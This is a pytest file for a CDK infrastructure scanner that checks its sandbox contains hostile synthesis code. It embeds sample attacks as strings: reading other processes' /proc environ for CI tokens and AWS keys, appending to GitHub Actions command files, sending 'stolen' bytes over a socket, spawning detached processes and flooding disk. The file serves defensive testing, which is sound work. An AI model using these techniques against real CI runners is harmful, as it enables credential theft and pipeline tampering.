"""A CDK app is the pull request's code: what it can reach while iacscan synthesizes it.

Each attack is a plain script set as cdk.json's ``app`` (no CDK needed), scanned by the real CLI
in a subprocess under a time and memory cap, alone and beside a good template whose report must
stay complete. Tests that need Linux namespaces skip, with the reason, where the host has none.
"""

from __future__ import annotations

import socket
import threading
import uuid
from pathlib import Path

import pytest

from iacscan.load.sandbox import choose
from untrusted_helpers import GOOD, GOOD_NODE, cdk_app, iacscan, kill_all, survivors

SANDBOX = choose("auto")
needs_sandbox = pytest.mark.skipif(
    not SANDBOX.active,
    reason="this host has no sandbox (no bubblewrap, no unshare with user/PID/mount namespaces)",
)
SECRET = "planted-" + uuid.uuid4().hex
BESIDE = [pytest.param(False, id="alone"), pytest.param(True, id="beside-good")]


def _paths(app: Path, beside: bool) -> list[str]:
    return [str(app), str(GOOD)] if beside else [str(app)]


def _app_nodes(beside: bool, *names: str) -> set[str]:
    return {f"AppStack/{n}" if beside else n for n in names}


def _complete(result_nodes: set[str], beside: bool) -> None:
    if beside:  # the good template is alone in scope when the app gives no stack
        assert GOOD_NODE in result_nodes or GOOD_NODE.split("/")[1] in result_nodes


STEAL_ENVIRON = """
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) != os.getpid():
        try:
            data = open(f"/proc/{pid}/environ", "rb").read()
        except OSError:
            continue
        if SECRET.encode() in data:
            RESOURCES.append(f"Leak{pid}")
for name, value in os.environ.items():
    if SECRET in value:
        RESOURCES.append("LeakOwn" + "".join(c for c in name if c.isalnum()))
with open("leaks.txt", "w") as f:
    f.write(" ".join(RESOURCES[1:]))
synth()
"""


@needs_sandbox
@pytest.mark.parametrize("beside", BESIDE)
def test_app_cannot_read_the_jobs_secrets_from_its_ancestors(tmp_path: Path, beside: bool) -> None:
    app = cdk_app(tmp_path / "app", f"SECRET = {SECRET!r}\n" + STEAL_ENVIRON)
    env = {
        "GITHUB_TOKEN": SECRET,
        "ACTIONS_RUNTIME_TOKEN": SECRET,
        "AWS_SECRET_ACCESS_KEY": SECRET,
        "MY_DEPLOY_API_KEY": SECRET,
    }
    result = iacscan(*_paths(app, beside), "--format", "json", "--no-cache", cwd=tmp_path, env=env)
    assert result.code == 0, result.stderr
    assert (app / "leaks.txt").read_text() == ""
    nodes = result.nodes()
    assert _app_nodes(beside, "AppQueue") <= nodes
    assert not {n for n in nodes if "Leak" in n}
    _complete(nodes, beside)
    assert f"sandbox ({SANDBOX.method})" in result.notes()
    assert SECRET not in result.stdout + result.stderr


@pytest.mark.parametrize("beside", BESIDE)
def test_sandbox_off_is_said_and_the_environment_is_still_scrubbed(
    tmp_path: Path, beside: bool
) -> None:
    app = cdk_app(tmp_path / "app", f"SECRET = {SECRET!r}\n" + STEAL_ENVIRON)
    env = {"GITHUB_TOKEN": SECRET, "GITHUB_ENV": SECRET, "SOME_SERVICE_TOKEN": SECRET}
    result = iacscan(
        *_paths(app, beside), "--format", "json", "--no-cache", "--sandbox", "off",
        cwd=tmp_path, env=env,
    )  # fmt: skip
    assert result.code == 0, result.stderr
    assert "without a sandbox (--sandbox off)" in result.notes()
    assert not {n for n in result.nodes() if n.startswith(("LeakOwn", "AppStack/LeakOwn"))}
    _complete(result.nodes(), beside)


WRITE_RUNNER_FILES = """
for path in TARGETS:
    try:
        with open(path, "a") as f:
            f.write("EVIL=1\\n")
        RESOURCES.append("Wrote" + str(len(RESOURCES)))
    except OSError:
        pass
for name in ("GITHUB_ENV", "GITHUB_OUTPUT", "GITHUB_PATH", "GITHUB_STEP_SUMMARY"):
    if name in os.environ:
        RESOURCES.append("Saw" + name.replace("_", ""))
synth()
"""


@needs_sandbox
@pytest.mark.parametrize("beside", BESIDE)
def test_app_cannot_write_the_runners_command_files(tmp_path: Path, beside: bool) -> None:
    runner = tmp_path / "runner" / "_runner_file_commands"
    runner.mkdir(parents=True)
    files = {n: runner / f"{n.lower()}_x" for n in ("GITHUB_ENV", "GITHUB_OUTPUT", "GITHUB_PATH")}
    files["GITHUB_STEP_SUMMARY"] = runner / "step_summary_x"
    for f in files.values():
        f.write_text("")
    targets = [str(f) for f in files.values()]  # the attacker guessed the paths
    app = cdk_app(tmp_path / "repo" / "app", f"TARGETS = {targets!r}\n" + WRITE_RUNNER_FILES)
    env = {name: str(path) for name, path in files.items()}
    result = iacscan(
        *_paths(app, beside), "--format", "json", "--no-cache", cwd=tmp_path / "repo", env=env
    )
    assert result.code == 0, result.stderr
    assert all(f.read_text() == "" for f in files.values())
    nodes = result.nodes()
    assert _app_nodes(beside, "AppQueue") <= nodes
    assert not {n for n in nodes if "Wrote" in n or "Saw" in n}
    _complete(nodes, beside)


SETSID_THEN = """
MARKER = {marker!r}
subprocess.Popen(["setsid", sys.executable, "-c", "import time; time.sleep(600)", MARKER],
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                 start_new_session=True)
{then}
"""


@pytest.mark.parametrize(
    "sandbox",
    [pytest.param("auto", marks=needs_sandbox, id="sandbox"), pytest.param("off", id="no-sandbox")],
)
@pytest.mark.parametrize("beside", BESIDE)
@pytest.mark.parametrize("hang", [pytest.param(True, id="timeout"), pytest.param(False, id="ok")])
def test_a_setsid_child_dies_with_the_app(
    tmp_path: Path, beside: bool, hang: bool, sandbox: str
) -> None:
    # In the sandbox its PID namespace ends; without one, iacscan adopts the app's orphans
    # (PR_SET_CHILD_SUBREAPER) and kills those that carry the run's mark.
    marker = "iacscan-test-" + uuid.uuid4().hex
    then = "time.sleep(600)" if hang else "synth()"
    app = cdk_app(tmp_path / "app", SETSID_THEN.format(marker=marker, then=then))
    args = [*_paths(app, beside), "--format", "json", "--no-cache", "--synth-timeout", "3"]
    args += ["--sandbox", sandbox]
    try:
        result = iacscan(*args, cwd=tmp_path)
        assert not survivors(marker)
    finally:
        kill_all(survivors(marker, grace=0))
    if hang:
        assert result.code == 3
        [error] = result.report["errors"]
        assert error["kind"] == "limit" and "--synth-timeout" in error["hint"]
    else:
        assert result.code == 0, result.stderr
        assert _app_nodes(beside, "AppQueue") <= result.nodes()
    _complete(result.nodes(), beside)


HUGE_FILE = """
synth()
with open(os.path.join(OUT, "asset.bin"), "wb") as f:
    for _ in range(40):
        f.write(b"x" * 1024 * 1024)
"""
MANY_FILES = """
synth()
for i in range(40):
    with open(os.path.join(OUT, f"part{i}.bin"), "wb") as f:
        f.write(b"x" * 1024 * 1024)
"""


@pytest.mark.parametrize("beside", BESIDE)
@pytest.mark.parametrize("body", [pytest.param(HUGE_FILE, id="one-file"),
                                  pytest.param(MANY_FILES, id="many-files")])  # fmt: skip
def test_a_huge_assembly_is_refused_and_not_cached(tmp_path: Path, beside: bool, body: str) -> None:
    app = cdk_app(tmp_path / "app", body)
    cache = tmp_path / "cache"
    result = iacscan(
        *_paths(app, beside), "--format", "json",
        cwd=tmp_path, cache=cache, env={"IACSCAN_MAX_ASSEMBLY_MB": "8"},
    )  # fmt: skip
    assert result.code == 3, result.stderr
    [error] = result.report["errors"]
    assert error["kind"] == "limit"
    assert "IACSCAN_MAX_ASSEMBLY_MB" in error["hint"] and "8 MB" in error["message"]
    left = sum(f.stat().st_size for f in cache.rglob("*") if f.is_file())
    assert left < 1024 * 1024  # nothing of it stayed in the cache
    _complete(result.nodes(), beside)


CONNECT = """
try:
    s = socket.create_connection(("127.0.0.1", PORT), timeout=2)
    s.sendall(b"stolen")
    s.close()
    RESOURCES.append("Connected")
except OSError:
    pass
synth()
"""


@needs_sandbox
def test_app_has_no_network(tmp_path: Path) -> None:
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.2)
    port = server.getsockname()[1]
    got: list[bytes] = []
    stop = threading.Event()

    def accept() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            got.append(conn.recv(100))
            conn.close()

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    try:
        app = cdk_app(tmp_path / "app", f"import socket\nPORT = {port}\n" + CONNECT)
        result = iacscan(str(app), "--format", "json", "--no-cache", cwd=tmp_path)
    finally:
        stop.set()
        thread.join(5)
        server.close()
    assert result.code == 0, result.stderr
    assert result.nodes() == {"AppQueue"}
    assert got == []


def test_sandbox_require_refuses_where_there_is_none(tmp_path: Path) -> None:
    ran = tmp_path / "ran"
    app = cdk_app(tmp_path / "app", f"open({str(ran)!r}, 'w').close()\nsynth()\n")
    # No unshare, no bwrap on PATH: no sandbox can be found.
    bare = tmp_path / "bin"
    bare.mkdir()
    env = {"PATH": str(bare)}
    result = iacscan(
        str(app), str(GOOD), "--format", "json", "--no-cache", "--sandbox", "require",
        cwd=tmp_path, env=env,
    )  # fmt: skip
    assert result.code == 3
    [error] = result.report["errors"]
    assert error["kind"] == "synth" and "--sandbox require" in error["message"]
    assert not ran.exists()
    _complete(result.nodes(), True)


@pytest.mark.parametrize("command", ["scan", "graph", "diff"])
def test_no_synth_runs_no_code_in_every_command(tmp_path: Path, command: str) -> None:
    ran = tmp_path / "ran"
    app = cdk_app(tmp_path / "app", f"open({str(ran)!r}, 'w').close()\nsynth()\n")
    if command == "diff":
        args = ["diff", str(app), str(app), "--format", "json", "--no-synth"]
    elif command == "graph":
        args = ["graph", str(app), "--format", "json", "--no-synth"]
    else:
        args = ["scan", str(app), "--format", "json", "--no-synth"]
    result = iacscan(*args, cwd=tmp_path)
    assert result.code == 3
    assert "--no-synth" in result.stderr
    assert not ran.exists()


NO_NEW_PRIVS = """
with open("/proc/self/status") as f:
    flags = [line.split()[1] for line in f if line.startswith("NoNewPrivs:")]
if flags != ["1"]:
    RESOURCES.append("CanSudo")
synth()
"""


@pytest.mark.parametrize(
    "sandbox",
    [pytest.param("auto", marks=needs_sandbox, id="sandbox"), pytest.param("off", id="no-sandbox")],
)
def test_the_app_cannot_gain_privileges(tmp_path: Path, sandbox: str) -> None:
    # No sudo or setuid binary can raise what the app runs as (runners give sudo to the job).
    app = cdk_app(tmp_path / "app", NO_NEW_PRIVS)
    result = iacscan(
        str(app), str(GOOD), "--format", "json", "--no-cache", "--sandbox", sandbox, cwd=tmp_path
    )
    assert result.code == 0, result.stderr
    assert "AppStack/AppQueue" in result.nodes() and "AppStack/CanSudo" not in result.nodes()
    _complete(result.nodes(), True)
